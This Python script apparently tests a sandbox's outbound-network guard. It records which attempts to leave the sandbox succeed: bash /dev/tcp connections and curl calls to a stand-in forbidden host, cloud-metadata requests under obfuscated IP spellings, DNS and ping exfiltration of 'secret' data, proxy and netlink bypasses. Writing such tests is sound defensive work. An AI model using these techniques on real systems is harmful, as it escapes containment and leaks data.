"""Tries to reach what must not be reached, from inside; prints one JSON object: name → [result, milliseconds].

A result is `refused`, the name of an error, `timeout`, `open` or what was answered.
"""

import errno
import json
import os
import re
import socket
import struct
import subprocess
import time

ALLOWED = "status.example.com"
FORBIDDEN = "203.0.113.66"
FORBIDDEN6 = "2001:db8:bad::66"
RESULTS = {}


def attempt(name, body):
    began = time.monotonic()
    try:
        result = body()
    except (TimeoutError, subprocess.TimeoutExpired):
        result = "timeout"
    except OSError as error:
        result = "refused" if error.errno == errno.ECONNREFUSED else errno.errorcode.get(error.errno, str(error))
    RESULTS[name] = [result, round((time.monotonic() - began) * 1000)]


def tcp(address, port, source_port=None, option=None):
    def body():
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as connection:
            connection.settimeout(3)
            if source_port:
                connection.bind(("", source_port))
            if option:
                connection.setsockopt(socket.SOL_SOCKET, *option)
            target = socket.getaddrinfo(address, port, type=socket.SOCK_STREAM)[0][4]
            connection.connect(target)
            return "open"
    return body


def udp(address, port, source_port=None, size=20, broadcast=False):
    def body():
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as message:
            message.settimeout(1)
            if source_port:
                message.bind(("", source_port))
            if broadcast:
                message.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            message.connect(socket.getaddrinfo(address, port, type=socket.SOCK_DGRAM)[0][4])
            message.send(b"x" * size)
            return f"answered {message.recv(100)!r}"
    return body


def raw(family, kind, protocol=0):
    def body():
        socket.socket(family, kind, protocol).close()
        return "open"
    return body


def program(*command):
    """What a program's error says; its exit status where it says nothing."""
    def body():
        done = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=8, text=True, errors="replace")
        if done.returncode == 0:
            return f"open {done.stdout[:80]!r}"
        text = done.stdout.strip().lower()
        if "couldn't connect" in text or "failed to connect" in text or "connection refused" in text:
            return "refused"
        return "unknown name" if "could not resolve" in text else text[-120:] or f"status {done.returncode}"
    return body


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def told(reply):
    if len(reply) < 12:
        return f"{len(reply)} bytes"
    flags, _, answers = struct.unpack_from("!HHH", reply, 2)
    return f"rcode {flags & 15}, {answers} answers"


def dns(server, name, kind=1, stream=False):
    def body():
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as connection:
            connection.settimeout(3)
            connection.connect((server, 53))
            asked = question(name, kind)
            connection.sendall((struct.pack("!H", len(asked)) if stream else b"") + asked)
            reply = connection.recv(4096)
            if stream and len(reply) == 2:
                reply += connection.recv(4096)
            return told(reply[2:] if stream else reply)
    return body


def said(address, port, words):
    """What a listener says to these words; nothing where it hangs up."""
    def body():
        with socket.socket() as connection:
            connection.settimeout(3)
            connection.connect((address, port))
            connection.sendall(words)
            return f"said {connection.recv(200)!r}"
    return body


def destinations():
    attempt("a forbidden address on 443", tcp(FORBIDDEN, 443))
    attempt("a forbidden IPv6 address on 443", tcp(FORBIDDEN6, 443))
    attempt("the allowed site before its name was asked", tcp("198.51.100.10", 443))
    attempt("the allowed site", program("curl", "-sS", "--max-time", "5", f"https://{ALLOWED}/"))
    addresses = sorted({entry[4][0] for entry in socket.getaddrinfo(ALLOWED, 443)})
    RESULTS["the allowed site's addresses"] = [addresses, 0]
    for port in (22, 80, 8443, 444, 442):
        for address in addresses:
            attempt(f"the allowed address {address} on {port}", tcp(address, port))
    attempt("a neighbour of the allowed address", tcp("198.51.100.11", 443))
    attempt("bash", program("bash", "-c", f"exec 3<>/dev/tcp/{FORBIDDEN}/443"))
    attempt("bash by UDP", program("bash", "-c", f"exec 3<>/dev/udp/{FORBIDDEN}/443; echo x >&3 && sleep 0.1 && echo x >&3"))
    attempt("perl", program("perl", "-MIO::Socket::INET", "-e",
                            f"IO::Socket::INET->new(PeerAddr => '{FORBIDDEN}:443') or die \"$!\\n\""))
    attempt("curl", program("curl", "-sSk", "--max-time", "5", f"https://{FORBIDDEN}/"))
    attempt("curl with the allowed name at the forbidden address", program(
        "curl", "-sSk", "--max-time", "5", "--resolve", f"{ALLOWED}:443:{FORBIDDEN}", f"https://{ALLOWED}/"))
    attempt("git", program("git", "ls-remote", f"https://{FORBIDDEN}/repository"))
    for spelling in ("169.254.169.254", "0xA9FEA9FE", "2852039166", "0251.0376.0251.0376", "169.254.43518", "::ffff:169.254.169.254",
                     "64:ff9b::a9fe:a9fe", "fd00:ec2::254", "169.254.170.2", "169.254.170.23", "168.63.129.16", "100.100.100.200"):
        attempt(f"metadata as {spelling}", tcp(spelling, 80))
    attempt("metadata with curl and a token", program(
        "curl", "-sS", "--max-time", "5", "-X", "PUT", "-H", "X-aws-ec2-metadata-token-ttl-seconds: 60", "http://169.254.169.254/latest/api/token"))
    for address in ("10.0.2.2", "10.0.2.3", "169.254.1.2", "10.88.0.1", "172.17.0.1", "192.168.0.1", "192.168.122.1", "100.64.0.1",
                    "8.8.8.8", "255.255.255.255", "0.0.0.0", "127.0.0.2", "192.0.2.53", "2001:4860:4860::8888", "fd00::1", "fe80::1%lo",
                    "fec0::1", "::", "2002:a00:1::1", "ff02::1%lo"):
        for port in (22, 443):
            attempt(f"{address} on {port}", tcp(address, port))
    for name in ("host.containers.internal", "host.docker.internal", "gateway.docker.internal", "metadata.google.internal"):
        attempt(f"the name {name}", program("curl", "-sS", "--max-time", "5", f"http://{name}/"))


def datagrams():
    for address in (FORBIDDEN, FORBIDDEN6, "198.51.100.10", "2001:db8:51::10", "8.8.8.8", "10.0.0.1", "169.254.169.254"):
        for port in (443, 123, 4789):
            attempt(f"UDP to {address} on {port}", udp(address, port))
    for port in (22, 5353, 68):
        attempt(f"UDP from port {port}", udp(FORBIDDEN, 443, source_port=port if port > 1024 else None))
    attempt("UDP in fragments", udp(FORBIDDEN, 443, size=9000))
    attempt("mDNS", udp("224.0.0.251", 5353))
    attempt("LLMNR", udp("224.0.0.252", 5355))
    attempt("mDNS by IPv6", udp("ff02::fb%lo", 5353))
    attempt("SSDP", udp("239.255.255.250", 1900))
    attempt("a broadcast", udp("255.255.255.255", 67, broadcast=True))


def sockets():
    attempt("a raw socket", raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    attempt("a raw IPv6 socket", raw(socket.AF_INET6, socket.SOCK_RAW, 58))
    attempt("a packet socket", raw(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
    attempt("a ping socket", ping)
    attempt("SCTP", lambda: connected(socket.AF_INET, socket.SOCK_STREAM, 132))
    attempt("UDP-Lite", lambda: connected(socket.AF_INET, socket.SOCK_DGRAM, 136))
    attempt("DCCP", lambda: connected(socket.AF_INET, 6, 33))
    attempt("a mark", tcp(FORBIDDEN, 443, option=(36, 1)))
    attempt("bound to lo", tcp(FORBIDDEN, 443, option=(25, b"lo\0")))
    attempt("vsock", vsock)


def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as echo:
        echo.settimeout(1)
        echo.connect((FORBIDDEN, 0))
        echo.send(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"secret")
        return f"answered {echo.recv(100)!r}"


def connected(family, kind, protocol):
    with socket.socket(family, kind, protocol) as connection:
        connection.settimeout(2)
        connection.connect((FORBIDDEN, 443))
        connection.send(b"x")
        connection.recv(1)
        return "open"


def vsock():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as connection:
        connection.settimeout(2)
        connection.connect((2, 22))
        return "open"


def names():
    for server in ("127.0.0.1", "192.0.2.53", FORBIDDEN, "8.8.8.8", "::1", "2001:4860:4860::8888"):
        for stream in (False, True):
            how = f"at {server} by {'TCP' if stream else 'UDP'}"
            attempt(f"a forbidden name {how}", dns(server, "secret-0815.data.example.net", stream=stream))
            attempt(f"the allowed name {how}", dns(server, ALLOWED, stream=stream))
    for kind, number in {"TXT": 16, "MX": 15, "NAPTR": 35, "SRV": 33, "ANY": 255, "HTTPS": 65, "SVCB": 64, "NULL": 10, "CNAME": 5, "NS": 2,
                         "PTR": 12}.items():
        attempt(f"{kind} of the allowed name", dns("127.0.0.1", ALLOWED, number))
    attempt("a label below the allowed name", dns("127.0.0.1", f"secret-0815.{ALLOWED}"))
    attempt("a name of the machine's own", dns("127.0.0.1", "secret-0815.local"))
    attempt("a reverse lookup", dns("127.0.0.1", "66.113.0.203.in-addr.arpa", 12))
    for name in ("loopback", "private", "metadata", "local6", "alias"):
        for kind in (1, 28):
            attempt(f"{name}.misleading.example.com, type {kind}", dns("127.0.0.1", f"{name}.misleading.example.com", kind))
    attempt("DNS over TLS", tcp("8.8.8.8", 853))
    attempt("DNS over HTTPS", program("curl", "-sSk", "--max-time", "5", "https://8.8.8.8/dns-query?name=secret-0815.data.example.net"))
    attempt("the C library with another resolver", hosts_aliases)


def hosts_aliases():
    environment = {**os.environ, "RES_OPTIONS": "nameserver:8.8.8.8 use-vc", "LOCALDOMAIN": "data.example.net"}
    done = subprocess.run(["getent", "ahosts", "secret-0815"], env=environment, capture_output=True, text=True, timeout=20)
    return f"open {done.stdout}" if done.returncode == 0 else "unknown name"


def guard():
    for port in (53, 1022, 1023):
        for words in (b"GET / HTTP/1.0\r\n\r\n", b"CONNECT 203.0.113.66:443 HTTP/1.1\r\n\r\n", b"\x05\x01\x00"):
            attempt(f"the guard's port {port} with {words[:4]!r}", said("127.0.0.1", port, words))
    for variable in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY", "http_proxy"):
        for proxy in (f"http://{FORBIDDEN}:443", "http://127.0.0.1:1023", "socks5h://127.0.0.1:1023", "http://127.0.0.1:1022"):
            attempt(f"{variable}={proxy}", program(
                "env", f"{variable}={proxy}", "NO_PROXY=", "curl", "-sSk", "--max-time", "4", "https://paste.example.net/"))


def changes():
    """Turns on what the kernel could be asked for."""
    for path in ("/proc/sys/net/ipv6/conf/all/disable_ipv6", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/lo/rp_filter",
                 "/proc/sys/net/ipv4/ping_group_range"):
        attempt(f"writing {path}", lambda: open(path, "w").write("0") and "open")
    ends = subprocess.run(["sh", "-c", "cat /proc/net/dev"], capture_output=True, text=True).stdout
    RESULTS["interfaces"] = [re.findall(r"^\s*([\w.@-]+):", ends, re.MULTILINE), 0]
    attempt("netlink: an address", rtnetlink)
    attempt("netlink: a table", nfnetlink)


def rtnetlink():
    # RTM_NEWADDR with NLM_F_REQUEST|ACK|CREATE|EXCL: 203.0.113.66/32 on lo (linux/rtnetlink.h)
    body = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, socket.inet_aton("198.18.7.7"))
    return netlink(0, struct.pack("=IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)


def nfnetlink():
    # a batch that makes one table (linux/netfilter/nfnetlink.h, nf_tables.h)
    def message(kind, flags, sequence, family, resource, attributes=b""):
        body = struct.pack("=BBH", family, 0, socket.htons(resource)) + attributes
        return struct.pack("=IHHII", 16 + len(body), kind, flags, sequence, 0) + body
    name = struct.pack("=HH", 8, 1) + b"bad\0"
    return netlink(12, message(16, 1, 0, 0, 10) + message(10 << 8, 0x405, 1, 1, 0, name) + message(17, 1, 2, 0, 10))


def netlink(protocol, request):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as channel:
        channel.settimeout(2)
        channel.sendto(request, (0, 0))
        _, kind, _, _, _, number = struct.unpack_from("=IHHIIi", channel.recv(4096))
        return "open" if kind == 2 and number == 0 else errno.errorcode.get(-number, f"message {kind}")


if __name__ == "__main__":
    for part in (destinations, datagrams, sockets, names, guard, changes):
        part()
    print(json.dumps(RESULTS))
